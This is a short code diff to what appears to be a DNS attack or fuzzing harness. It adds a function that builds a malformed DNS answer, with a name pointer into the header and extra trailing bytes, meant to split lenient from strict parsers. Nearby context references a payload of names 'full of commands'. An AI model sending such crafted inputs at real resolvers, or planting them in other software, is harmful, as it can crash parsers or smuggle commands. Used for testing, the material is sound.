@@ -71,6 +71,13 @@ def dns_loop(data: bytes) -> bytes:
 
 
 @attack
+def dns_overlap(data: bytes) -> bytes:
+    """An answer whose name lies in the header, with more behind its end: read by the lenient, no DNS to the strict."""
+    record = b"\xc0\x04" + struct.pack(">HHIH", 12, 1, 10, 2) + b"\xc0\x0c"
+    return data[:2] + struct.pack(">5H", 0x8400, 1, 1, 0, 0) + data[12:] + record + b"more"
+
+
+@attack
 def dns_texts(data: bytes) -> bytes:
     """Names and strings full of commands, as an answer to the very question."""
     label = bytes((len(TEXT),)) + TEXT
